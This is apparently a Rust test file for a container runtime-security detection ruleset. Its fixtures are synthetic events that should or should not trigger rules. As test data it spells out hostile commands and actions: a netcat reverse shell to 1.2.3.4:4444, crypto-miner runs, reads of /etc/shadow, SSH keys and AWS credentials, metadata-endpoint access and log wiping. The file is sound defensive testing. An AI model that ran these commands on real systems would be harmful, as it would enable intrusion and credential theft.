use std::collections::{BTreeMap, BTreeSet};

use fargard_model::{EventType as E, Trap, standard};

use super::default_rules;
use crate::{
    Ruleset, load,
    testing::{Made, exec, made, read, write},
};

fn ruleset() -> Ruleset {
    load(&default_rules()).ruleset.unwrap()
}

fn matches(ruleset: &Ruleset, event: &Made) -> Vec<String> {
    let mut found = Vec::new();
    ruleset.evaluate(&event.0, &mut found);
    found.iter().map(|id| ruleset.rules()[id.index()].name.clone()).collect()
}

#[test]
fn the_default_rules_load_without_a_word() {
    let report = load(&default_rules());
    let said: Vec<String> = report.diagnostics.iter().map(ToString::to_string).collect();
    assert!(said.is_empty(), "{}", said.join("\n"));
    assert!(report.ruleset.unwrap().rules().len() >= 20);
}

/// Each event with exactly the rules it raises; the first name is the rule the row is about.
fn raised() -> Vec<(Made, Vec<&'static str>)> {
    let chmod = |names: &str| made(E::Fchmodat).path("filename", "/tmp/x").flags("mode", 0o4755, names);
    vec![
        (write("/usr/bin/probe").by("touch"), vec!["Write below binary dir"]),
        (write("/usr/local/bin/x").result(5), vec!["Write below binary dir"]),
        (made(E::Creat).path("name", "/bin/x"), vec!["Write below binary dir"]),
        (made(E::Mkdirat).path("path", "/sbin/.hidden"), vec!["Write below binary dir"]),
        (
            made(E::Symlink).text("target", "/tmp/x").path("linkpath", "/bin/x"),
            vec!["Write below binary dir"],
        ),
        (
            made(E::Rename).path("oldpath", "/usr/bin/ls").path("newpath", "/tmp/ls"),
            vec!["Modify binary dirs"],
        ),
        (made(E::Renameat2).path("oldpath", "/tmp/x").path("newpath", "/bin/ls"), vec!["Modify binary dirs"]),
        (made(E::Unlinkat).path("name", "/bin/ls"), vec!["Modify binary dirs"]),
        (exec("/tmp/xmrig", &["60"]), vec!["Crypto miner executed"]),
        (exec("/usr/bin/java", &["-o", "stratum+tcp://pool:3333"]), vec!["Crypto miner executed"]),
        (
            exec("/tmp/xmrig", &[]).process(|process| process.exe_upper_layer = Some(true)),
            vec!["Crypto miner executed", "Execute file that was not in the image"],
        ),
        (
            exec("/tmp/tool", &[]).process(|process| process.exe_upper_layer = Some(true)),
            vec!["Execute file that was not in the image"],
        ),
        (
            exec("/memfd:x (deleted)", &[]).process(|process| process.exe_from_memfd = true),
            vec!["Fileless execution from memory"],
        ),
        (exec("/dev/shm/x", &[]), vec!["Execution from shared memory"]),
        (made(E::Dup2).connection(Some("10.0.0.2:5000"), Some("1.2.3.4:4444")), vec!["Reverse shell"]),
        (made(E::Dup3).connection(None, Some("1.2.3.4:4444")).result(0), vec!["Reverse shell"]),
        (made(E::Connect).by("bash").connection(None, Some("1.2.3.4:4444")), vec!["Reverse shell"]),
        (
            made(E::Connect).by("curl").connection(None, Some("169.254.170.2:80")),
            vec!["Contact credentials endpoint"],
        ),
        (
            made(E::Connect)
                .connection(None, Some("169.254.169.254:80"))
                .process(|process| process.exe_upper_layer = Some(true)),
            vec!["Contact credentials endpoint"],
        ),
        (exec("/usr/bin/apt-get", &["update"]), vec!["Package manager run"]),
        (exec("/usr/bin/npm", &["install", "left-pad"]), vec!["Package manager run"]),
        (made(E::Unlink).by("rm").path("path", "/var/log/app/access.log"), vec!["Log removed or cleared"]),
        (made(E::Unlinkat).path("name", "/root/.bash_history"), vec!["Log removed or cleared"]),
        (chmod("S_IXOTH|S_IXUSR|S_ISUID"), vec!["Set setuid or setgid bit"]),
        (made(E::Ptrace).flags("request", 16, "PTRACE_ATTACH"), vec!["Trace or change another process"]),
        (made(E::ProcessVmWritev), vec!["Trace or change another process"]),
        (write("/etc/ld.so.preload"), vec!["Write below etc"]),
        (made(E::Rename).path("oldpath", "/etc/p").path("newpath", "/etc/passwd"), vec!["Write below etc"]),
        (
            made(E::Symlinkat).text("target", "/etc/shadow").path("linkpath", "/tmp/s"),
            vec!["Link to sensitive file made"],
        ),
        (exec("/bin/nc", &["-e", "/bin/sh", "1.2.3.4", "4444"]), vec!["Netcat-like tool run"]),
        (exec("/bin/sh", &["-c", "id"]).parent("nginx"), vec!["Shell spawned by a server"]),
        (
            made(E::Listen).by("ncat").connection(Some("0.0.0.0:9000"), None),
            vec!["Unexpected program listens"],
        ),
        (made(E::Unshare).result(-1), vec!["Mount or namespace change attempted"]),
        (
            made(E::Mount).text("dev", "/dev/xvda").path("dir", "/mnt"),
            vec!["Mount or namespace change attempted"],
        ),
        (made(E::Bpf).result(-1), vec!["Kernel interface probed"]),
        (write("/root/.ssh/authorized_keys"), vec!["SSH key or authorized keys written"]),
        (exec("/usr/bin/find", &["/", "-name", "id_rsa"]), vec!["Search for secrets"]),
        (exec("/bin/bash", &[]).process(|process| process.tty = 34_816), vec!["Terminal shell in container"]),
        (read("/etc/shadow").by("cat"), vec!["Credential file read"]),
        (read("/home/a/.ssh/id_rsa").by("cat"), vec!["Credential file read"]),
        (read("/root/.aws/credentials").by("cat"), vec!["Credential file read"]),
        (read("/proc/17/environ").by("cat"), vec!["Environment of another process read"]),
    ]
}

/// Near misses: what looks alike and raises nothing.
fn silent() -> Vec<Made> {
    let known = |event: Made| event.process(|process| process.exe_upper_layer = Some(false));
    vec![
        write("/usr/bin/probe").result(-13),
        write("/usr/bin/tool").by("dpkg"),
        write("/usr/binary/x"),
        write("/tmp/xmrig").by("cp"),
        read("/bin/sleep").by("cp"),
        made(E::Mkdir).path("path", "/srv/bin"),
        made(E::Rename).path("oldpath", "/tmp/a").path("newpath", "/tmp/b"),
        made(E::Rename).path("oldpath", "/bin/ls").path("newpath", "/tmp/ls").result(-13),
        known(exec("/bin/sh", &["-c", "cp /bin/sleep /tmp/xmrig && echo copied && sleep 60"])),
        exec("/bin/cp", &["/bin/sleep", "/tmp/xmrig"]),
        exec("/bin/grep", &["stratum+tcp", "notes"]),
        exec("/bin/sleep", &["60"]),
        exec("/usr/bin/runc", &["init"]),
        exec("/srv/dev/shm/x", &[]),
        made(E::Dup2).process(|process| process.name = "sh".into()),
        made(E::Dup2).connection(None, Some("1.2.3.4:80")).result(7),
        made(E::Connect).connection(None, Some("1.2.3.4:443")),
        made(E::Connect).by("node").connection(None, Some("169.254.170.2:80")),
        made(E::Connect).by("curl").connection(None, Some("1.2.3.4:80")),
        exec("/usr/bin/npm", &["start"]),
        made(E::Unlink).by("logrotate").path("path", "/var/log/syslog"),
        made(E::Unlink).path("path", "/tmp/x.log"),
        made(E::Chmod).path("filename", "/tmp/x").flags("mode", 0o755, "S_IXOTH|S_IXUSR"),
        made(E::Ptrace).flags("request", 0, "PTRACE_TRACEME"),
        write("/etc/nginx/conf.d/default.conf").by("sed"),
        made(E::Symlink).text("target", "/usr/lib/x").path("linkpath", "/tmp/s"),
        exec("/bin/nc", &["-z", "db", "5432"]),
        exec("/bin/sh", &["-c", "node app.js"]).parent("npm"),
        made(E::Listen).by("nginx").connection(Some("0.0.0.0:80"), None),
        made(E::Unshare).by("chrome"),
        made(E::MemfdCreate),
        write("/root/.ssh/known_hosts").by("app"),
        exec("/usr/bin/find", &["/srv", "-name", "app.js"]),
        exec("/bin/bash", &["-c", "true"]),
        read("/etc/shadow").by("su"),
        read("/home/a/.ssh/id_rsa.pub").by("cat"),
        read("/root/.aws/credentials").by("node"),
        read("/proc/self/environ").by("cat"),
        read("/etc/passwd").by("cat"),
    ]
}

#[test]
fn rules_fire_for_what_they_are_about() {
    let ruleset = ruleset();
    let mut covered = BTreeSet::new();
    for (event, expected) in raised() {
        let found = matches(&ruleset, &event);
        assert_eq!(found, expected, "{:?} by {}", event.0.kind, event.0.process.exeline());
        covered.extend(found);
    }
    let all: BTreeSet<_> = ruleset.rules().iter().map(|rule| rule.name.clone()).collect();
    assert_eq!(covered, all, "every rule needs a row");
}

#[test]
fn rules_stay_silent_for_what_looks_alike() {
    let ruleset = ruleset();
    for event in silent() {
        let found = matches(&ruleset, &event);
        assert!(found.is_empty(), "{found:?}: {:?} by {}", event.0.kind, event.0.process.exeline());
    }
}

#[test]
fn outputs_name_who_where_and_what() {
    let ruleset = ruleset();
    for rule in ruleset.rules() {
        for field in
            ["proc.name", "proc.cmdline", "proc.pname", "container.name", "ecs.task.arn", "user.name"]
        {
            assert!(rule.output.contains(&format!("%{field}")), "{}: {field}", rule.name);
        }
        assert!(!rule.description.is_empty() && !rule.output.contains('\n'), "{}", rule.name);
        let standards: BTreeSet<_> =
            rule.tags.iter().filter_map(|tag| standard::of_tag(tag)).map(|(standard, _)| standard).collect();
        assert_eq!(standards.len(), standard::Standard::ALL.len(), "{}: {standards:?}", rule.name);
    }
}

#[test]
fn a_detection_is_whole() {
    let ruleset = ruleset();
    let event = write("/usr/bin/probe").by("touch").0;
    let mut found = Vec::new();
    ruleset.evaluate(&event, &mut found);
    let detection = ruleset.detection(found[0], &event, "p", "host").unwrap();
    let mut shown = serde_json::to_value(&detection).unwrap();
    assert_eq!(shown["event"], serde_json::to_value(&event).unwrap());
    for long in ["event", "condition", "description"] {
        shown.as_object_mut().unwrap().remove(long);
    }
    insta::assert_json_snapshot!(shown);
}

#[test]
fn only_the_read_rules_force_every_open() {
    let whole = ruleset().traps();
    assert!(whole.contains(Trap::OpenRead));
    let without = load(&default_rules()[..1]).ruleset.unwrap().traps();
    let needed: BTreeMap<_, _> = without.iter().collect();
    assert!(!without.contains(Trap::OpenRead), "{:?}", needed.get(&Trap::OpenRead));
    for unneeded in [Trap::Accept, Trap::SendtoAddress, Trap::Sendmsg, Trap::Setuid, Trap::Chown, Trap::Bind]
    {
        assert!(!without.contains(unneeded), "{unneeded:?}: {:?}", needed.get(&unneeded));
    }
    for forced in [Trap::Exec, Trap::OpenWrite, Trap::Rename, Trap::DupStdio, Trap::Connect, Trap::Listen] {
        assert!(without.contains(forced), "{forced:?}");
    }
}
